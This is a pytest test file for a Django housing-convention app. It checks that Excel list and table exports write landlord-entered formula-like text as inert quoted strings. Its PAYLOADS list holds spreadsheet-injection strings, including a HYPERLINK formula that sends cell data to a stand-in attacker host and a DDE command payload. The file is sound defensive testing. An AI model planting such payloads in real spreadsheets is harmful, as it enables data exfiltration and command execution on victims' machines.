"""Formula injection: text typed by a bailleur never becomes a live formula in an export (list or table)."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from conventions.excel.exports import export_table
from conventions.excel.imports import import_table
from conventions.excel.tables import TABLES
from core.spreadsheets import looks_like_formula, write_cell
from tests.conventions.excel.helpers import upload
from tests.conventions.factories import ConventionFactory, PretFactory
from tests.programmes.factories import (
    AnnexeFactory,
    LogementEDDFactory,
    LogementFactory,
    ReferenceCadastraleFactory,
)
from tests.users.factories import bailleur_user

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez ici")',
    "+33 1 40 81 21 22",
    "-2+3",
    "@SUM(1+1)",
    "\tcmd",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]


def _assert_no_formula(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_list_export_writes_formula_like_text_as_text(client):
    convention = ConventionFactory(numero="=1+1")
    programme = convention.programme
    programme.nom, programme.ville = PAYLOADS[0], PAYLOADS[3]
    programme.numero_operation = PAYLOADS[2]
    programme.save()
    bailleur = programme.bailleur
    bailleur.nom = PAYLOADS[6]
    bailleur.save()
    client.force_login(bailleur_user(bailleur=bailleur))
    response = client.get(reverse("conventions:export_liste"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_no_formula(content)
    sheet = load_workbook(io.BytesIO(content)).active
    values = [cell.value for cell in sheet[2]]
    # The visible text is kept, character for character, and protected against edition (quote prefix).
    assert values[0] == "=1+1" and values[2] == PAYLOADS[0] and values[3] == PAYLOADS[2]
    assert values[4] == PAYLOADS[6] and values[7] == PAYLOADS[3]
    assert all(cell.quotePrefix for cell in sheet[2] if looks_like_formula(cell.value))


@pytest.fixture
def poisoned_convention():
    convention = ConventionFactory()
    for index, payload in enumerate(PAYLOADS[:3]):
        logement = LogementFactory(lot=convention.lot, designation=payload[:20], import_order=index)
    AnnexeFactory(logement=logement)  # its dwelling's designation is written in the annexes table
    ReferenceCadastraleFactory(programme=convention.programme, section="AB", numero="12", autre=PAYLOADS[0])
    LogementEDDFactory(programme=convention.programme, designation="@A1", numero_lot="-1")
    PretFactory(convention=convention, numero=PAYLOADS[6][:20])
    return convention


@pytest.mark.parametrize("table", list(TABLES))
def test_table_exports_write_formula_like_text_as_text(poisoned_convention, table):
    content = export_table(table, convention=poisoned_convention)
    sheet = load_workbook(io.BytesIO(content))[TABLES[table].sheet]
    first = TABLES[table].first_row
    for row in sheet.iter_rows(min_row=first):
        for cell in row:
            if isinstance(cell.value, str) and cell.data_type == "f":
                # The only formula allowed: APiLos' own rent formula, in the empty rows left for new dwellings.
                assert TABLES[table].surface_du_loyer and cell.value.startswith("=IF(OR("), cell.coordinate
                assert all(c.value in (None, "") for c in row if c.column != cell.column), cell.coordinate
            elif looks_like_formula(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_exported_text_is_kept_and_reimported_unchanged(poisoned_convention):
    content = export_table("logements", convention=poisoned_convention)
    sheet = load_workbook(io.BytesIO(content))["Logements"]
    designations = [sheet.cell(row=row, column=1).value for row in range(4, 7)]
    assert designations == [payload[:20] for payload in PAYLOADS[:3]]
    result = import_table("logements", upload(content), convention=poisoned_convention)
    assert result.ok, result.errors
    assert sorted(row["designation"] for row in result.rows) == sorted(p[:20] for p in PAYLOADS[:3])


@pytest.mark.parametrize("value", PAYLOADS)
def test_write_cell_keeps_text_inert(value):
    from openpyxl import Workbook

    cell = Workbook().active["A1"]
    write_cell(cell, value)
    assert cell.value == value and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("value", ["Résidence des Tilleuls", 12, None, "A=B"])
def test_write_cell_leaves_ordinary_values_alone(value):
    from openpyxl import Workbook

    cell = Workbook().active["A1"]
    write_cell(cell, value)
    assert cell.value == value and not cell.quotePrefix
